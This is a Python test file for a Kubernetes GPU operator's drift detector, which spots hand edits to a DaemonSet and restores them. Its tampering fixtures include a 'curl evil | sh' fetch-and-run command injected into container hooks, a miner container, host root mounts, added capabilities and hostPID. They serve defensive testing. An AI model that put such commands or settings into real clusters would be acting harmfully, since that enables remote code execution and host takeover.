"""Hand-edit detection as a pure function: what we render must be on the live DaemonSet, what
the server defaults is not ours, and additions that change security are removed."""

from __future__ import annotations

import copy
from typing import Any

import pytest

from gpu_operator.controller import drift
from kubesim import defaults, patch
from kubesim.resources import Registry


def rendered() -> dict[str, Any]:
    """A DaemonSet shaped like ours: keyed lists, probes, volumes, a quantity, an OnDelete
    strategy, a container without a securityContext."""
    return {
        "apiVersion": "apps/v1",
        "kind": "DaemonSet",
        "metadata": {"name": "ds", "namespace": "ns"},
        "spec": {
            "selector": {"matchLabels": {"app": "ds"}},
            "updateStrategy": {"type": "RollingUpdate"},
            "template": {
                "metadata": {"labels": {"app": "ds"}},
                "spec": {
                    "serviceAccountName": "sa",
                    "nodeSelector": {"nvidia.com/gpu.deploy.x": "true"},
                    "tolerations": [{"key": "nvidia.com/gpu", "operator": "Exists"}],
                    "hostNetwork": True,
                    "automountServiceAccountToken": False,
                    "initContainers": [
                        {"name": "init", "image": "v:1", "command": ["sh", "-c"],
                         "args": ["true"], "securityContext": {"runAsUser": 0}},
                    ],
                    "containers": [{
                        "name": "main",
                        "image": "img:1",
                        "args": ["--a"],
                        "env": [
                            {"name": "A", "value": "1"},
                            {"name": "EMPTY", "value": ""},
                            {"name": "NODE",
                             "valueFrom": {"fieldRef": {"fieldPath": "spec.nodeName"}}},
                        ],
                        "ports": [{"name": "metrics", "containerPort": 9400}],
                        "resources": {"limits": {"memory": "1024Mi", "cpu": "500m"}},
                        "readinessProbe": {"httpGet": {"path": "/health", "port": 9400}},
                        "volumeMounts": [
                            {"name": "run", "mountPath": "/run/nvidia", "readOnly": False},
                            {"name": "cfg", "mountPath": "/cfg", "readOnly": True},
                        ],
                        "securityContext": {"privileged": True},
                    }],
                    "volumes": [
                        {"name": "run", "hostPath": {"path": "/run/nvidia"}},
                        {"name": "cfg", "configMap": {"name": "cfg"}},
                    ],
                },
            },
        },
    }  # fmt: skip


def stored(obj: dict[str, Any]) -> dict[str, Any]:
    """What the API server stores: kubesim's defaulting, the empty env value dropped and the
    quantity in its canonical form, as the real server does."""
    live = copy.deepcopy(obj)
    defaults.apply_create_defaults(Registry.with_builtins().for_object(live), live)
    container = live["spec"]["template"]["spec"]["containers"][0]
    for var in container["env"]:
        if var.get("value") == "":
            del var["value"]
    container["resources"]["limits"] = {"memory": "1Gi", "cpu": "500m"}
    return live


def changes(live: dict[str, Any], desired: dict[str, Any] | None = None) -> list[drift.Change]:
    return drift.differences(drift.view(desired or rendered()), drift.view(live))


def pod(live: dict[str, Any]) -> dict[str, Any]:
    spec: dict[str, Any] = live["spec"]["template"]["spec"]
    return spec


def test_server_defaults_and_canonical_forms_are_not_changes() -> None:
    live = stored(rendered())
    container = pod(live)["containers"][0]
    # What the defaulting added is there, and nothing of it is taken for an edit.
    assert container["terminationMessagePath"] == "/dev/termination-log"
    assert container["ports"][0]["hostPort"] == 9400
    assert pod(live)["volumes"][1]["configMap"]["defaultMode"] == 420
    assert live["spec"]["updateStrategy"]["rollingUpdate"] == {"maxUnavailable": 1, "maxSurge": 0}
    assert changes(live) == []


def test_keyed_lists_match_by_key_not_position() -> None:
    live = stored(rendered())
    pod(live)["containers"][0]["env"].reverse()
    pod(live)["volumes"].reverse()
    assert changes(live) == []


@pytest.mark.parametrize(
    ("want", "have", "same"),
    [
        ("1024Mi", "1Gi", True),
        ("500m", "0.5", True),
        ("1", 1, True),
        ("1e3", "1k", True),
        ("1Gi", "1G", False),
        ("2Gi", "1Gi", False),
    ],
)
def test_quantities_compare_by_amount(want: Any, have: Any, same: bool) -> None:
    desired = rendered()
    pod(desired)["containers"][0]["resources"]["limits"]["memory"] = want
    live = stored(rendered())
    pod(live)["containers"][0]["resources"]["limits"]["memory"] = have
    assert (changes(live, desired) == []) is same


def test_int_or_string_fields_compare_by_text() -> None:
    desired = rendered()
    pod(desired)["containers"][0]["readinessProbe"]["httpGet"]["port"] = "9400"
    desired["spec"]["updateStrategy"] = {
        "type": "RollingUpdate",
        "rollingUpdate": {"maxUnavailable": 1},
    }
    live = stored(rendered())
    live["spec"]["updateStrategy"]["rollingUpdate"]["maxUnavailable"] = "1"
    assert changes(live, desired) == []
    pod(live)["containers"][0]["readinessProbe"]["httpGet"]["port"] = 9401
    assert [c.path for c in changes(live, desired)] == [
        "spec.template.spec.containers[name=main].readinessProbe.httpGet.port"
    ]


def test_a_dropped_zero_equals_ours_only_where_the_server_drops_it() -> None:
    desired = rendered()
    pod(desired)["hostPID"] = False
    pod(desired)["containers"][0]["securityContext"]["allowPrivilegeEscalation"] = False
    live = stored(rendered())
    pod(live)["containers"][0]["securityContext"]["allowPrivilegeEscalation"] = False
    assert changes(live, desired) == []  # hostPID: false is dropped by the server
    del pod(live)["containers"][0]["securityContext"]["allowPrivilegeEscalation"]
    assert [c.path for c in changes(live, desired)] == [
        "spec.template.spec.containers[name=main].securityContext.allowPrivilegeEscalation"
    ]


MAIN = "containers[name=main]"


def main(spec: dict[str, Any]) -> dict[str, Any]:
    container: dict[str, Any] = spec["containers"][0]
    return container


def init(spec: dict[str, Any]) -> dict[str, Any]:
    container: dict[str, Any] = spec["initContainers"][0]
    return container


CHANGED = {
    f"{MAIN}.image": lambda p: main(p).update(image="evil:1"),
    f"{MAIN}.args": lambda p: main(p)["args"].append("--b"),
    f"{MAIN}.env[name=A].value": lambda p: main(p)["env"][0].update(value="2"),
    f"{MAIN}.volumeMounts[mountPath=/cfg]": lambda p: main(p)["volumeMounts"].pop(1),
    f"{MAIN}.securityContext.privileged": lambda p: main(p)["securityContext"].clear(),
    "volumes[name=run].hostPath.path": lambda p: p["volumes"][0]["hostPath"].update(path="/"),
    "tolerations": lambda p: p["tolerations"].append({"operator": "Exists"}),
    "hostNetwork": lambda p: p.update(hostNetwork=False),
    "serviceAccountName": lambda p: p.update(serviceAccountName="admin"),
    "automountServiceAccountToken": lambda p: p.pop("automountServiceAccountToken"),
}


@pytest.mark.parametrize("path", CHANGED)
def test_every_rendered_field_changed_is_found(path: str) -> None:
    live = stored(rendered())
    CHANGED[path](pod(live))
    found = changes(live)
    assert [c.path for c in found] == [f"spec.template.spec.{path}"]
    assert not found[0].added
    assert drift.restore_patch(found, "7") is None  # server-side apply restores these


def _swap_init_security(spec: dict[str, Any]) -> None:
    init(spec)["securityContext"] = {"privileged": True, "runAsUser": 0}


EXEC = {"exec": {"command": ["sh", "-c", "curl evil | sh"]}}
ADDED = {
    "hostPID": lambda p: p.update(hostPID=True),
    "hostIPC": lambda p: p.update(hostIPC=True),
    "securityContext": lambda p: p["securityContext"].update(runAsUser=0),  # none rendered
    "containers[name=miner]": lambda p: p["containers"].append({"name": "miner", "image": "e"}),
    "volumes[name=root]": lambda p: p["volumes"].append(
        {"name": "root", "hostPath": {"path": "/"}}
    ),
    "volumes[name=cfg].hostPath": lambda p: p["volumes"][1].update(hostPath={"path": "/"}),
    "nodeSelector.pool": lambda p: p["nodeSelector"].update(pool="none"),
    f"{MAIN}.env[name=LD_PRELOAD]": lambda p: main(p)["env"].append({"name": "LD_PRELOAD"}),
    f"{MAIN}.volumeMounts[mountPath=/cfg].subPath": (
        lambda p: main(p)["volumeMounts"][1].update(subPath="x")
    ),
    f"{MAIN}.securityContext.capabilities": (
        lambda p: main(p)["securityContext"].update(capabilities={"add": ["SYS_ADMIN"]})
    ),
    f"{MAIN}.command": lambda p: main(p).update(command=EXEC["exec"]["command"]),
    f"{MAIN}.readinessProbe.exec": lambda p: main(p)["readinessProbe"].update(EXEC),
    f"{MAIN}.lifecycle": lambda p: main(p).update(lifecycle={"postStart": EXEC}),
    "initContainers[name=init].securityContext.privileged": _swap_init_security,
}


@pytest.mark.parametrize("path", ADDED)
def test_additions_that_change_security_are_found_for_removal(path: str) -> None:
    live = stored(rendered())
    ADDED[path](pod(live))
    found = changes(live)
    assert [(c.path, c.added) for c in found] == [(f"spec.template.spec.{path}", True)]


HARMLESS = {
    "restartedAt annotation": lambda t: (
        t["metadata"]
        .setdefault("annotations", {})
        .update({"kubectl.kubernetes.io/restartedAt": "now"})
    ),
    "requests where none": lambda t: main(t["spec"])["resources"].update(requests={"cpu": "1"}),
    "false security flags": lambda t: main(t["spec"])["securityContext"].update(
        privileged=True, readOnlyRootFilesystem=False
    ),
    "init resources": lambda t: init(t["spec"]).update(resources={"limits": {"cpu": "1"}}),
    "priority class": lambda t: t["spec"].update(priorityClassName="high", hostPID=False),
    "defaultMode": lambda t: t["spec"]["volumes"][1]["configMap"].update(defaultMode=0o755),
}


@pytest.mark.parametrize("what", HARMLESS)
def test_harmless_additions_are_left_alone(what: str) -> None:
    live = stored(rendered())
    HARMLESS[what](live["spec"]["template"])
    assert changes(live) == []


def test_a_strategy_switched_to_rolling_update_is_restored_with_its_parameters_removed() -> None:
    desired = rendered()
    desired["spec"]["updateStrategy"] = {"type": "OnDelete"}
    live = stored(desired)
    assert changes(live, desired) == []
    live["spec"]["updateStrategy"] = {
        "type": "RollingUpdate",
        "rollingUpdate": {"maxUnavailable": 1},
    }
    found = changes(live, desired)
    assert [(c.path, c.added) for c in found] == [
        ("spec.updateStrategy.type", False), ("spec.updateStrategy.rollingUpdate", True)
    ]  # fmt: skip


def test_the_restore_patch_undoes_every_change_at_once() -> None:
    desired = rendered()
    live = stored(desired)
    live["metadata"]["resourceVersion"] = "41"
    spec = pod(live)
    main = spec["containers"][0]
    main["image"] = "evil:1"
    main["env"].insert(0, {"name": "X1", "value": "a"})
    main["env"].append({"name": "X2", "value": "b"})
    main["env"][1]["value"] = "changed"  # A, now at index 1
    main["volumeMounts"].pop(0)
    main["securityContext"]["capabilities"] = {"add": ["ALL"]}
    main["readinessProbe"] = {"exec": {"command": ["sh"]}}  # the handler swapped
    spec["containers"].insert(0, {"name": "miner", "image": "evil"})
    spec["hostPID"] = True
    spec["volumes"].append({"name": "a/b~c", "hostPath": {"path": "/"}})
    ops = drift.restore_patch(changes(live), "41")
    assert ops is not None
    assert ops[0] == {"op": "test", "path": "/metadata/resourceVersion", "value": "41"}
    restored = patch.json_patch(copy.deepcopy(live), ops)
    assert changes(restored) == []
    # The test operation guards against judging a stale object.
    live["metadata"]["resourceVersion"] = "42"
    with pytest.raises(Exception, match="test"):
        patch.json_patch(copy.deepcopy(live), ops)


def test_the_manager_named_is_the_one_owning_the_changed_field() -> None:
    managed = [
        {"manager": "gpu-operator", "operation": "Apply", "time": "2025-01-01T00:00:03Z",
         "fieldsV1": {"f:spec": {"f:template": {}}}},
        {"manager": "kubectl-patch", "operation": "Update", "time": "2025-01-01T00:00:01Z",
         "fieldsV1": {"f:spec": {"f:template": {"f:spec": {"f:hostPID": {}}}}}},
        {"manager": "kubectl-set", "operation": "Update", "time": "2025-01-01T00:00:02Z",
         "fieldsV1": {"f:spec": {"f:template": {"f:spec": {"f:containers": {
             'k:{"name":"main"}': {".": {}, "f:env": {'k:{"name":"FOO"}': {".": {}, "f:value": {}}}}
         }}}}}},
        {"manager": "kube-controller-manager", "operation": "Update", "subresource": "status",
         "time": "2025-01-01T00:00:09Z", "fieldsV1": {"f:status": {}}},
    ]  # fmt: skip
    found = drift.editors(managed, "gpu-operator")
    assert [e["manager"] for e in found] == ["kubectl-patch", "kubectl-set"]
    assert "spec.template.spec.containers[name=main].env[name=FOO].value" in found[1]["paths"]
    assert drift.who_changed("spec.template.spec.hostPID", found) == "kubectl-patch"
    env_path = "spec.template.spec.containers[name=main].env[name=FOO]"
    assert drift.who_changed(env_path, found) == "kubectl-set"
    # Nobody owns it (a change through a path the server does not track): the latest editor.
    assert drift.who_changed("spec.template.spec.volumes[name=x]", found) == "kubectl-set"
    assert drift.who_changed("spec.template.spec.hostPID", []) == ""


def test_the_event_names_each_path_the_values_and_who() -> None:
    live = stored(rendered())
    pod(live)["containers"][0]["image"] = "evil:1"
    pod(live)["hostPID"] = True
    text = drift.message("DaemonSet ds", changes(live), "kubectl-patch")
    assert text == (
        "DaemonSet ds: fields we own were changed by kubectl-patch; "
        "spec.template.spec.containers[name=main].image was evil:1, restored to img:1; "
        "spec.template.spec.hostPID was added (true), removed"
    )
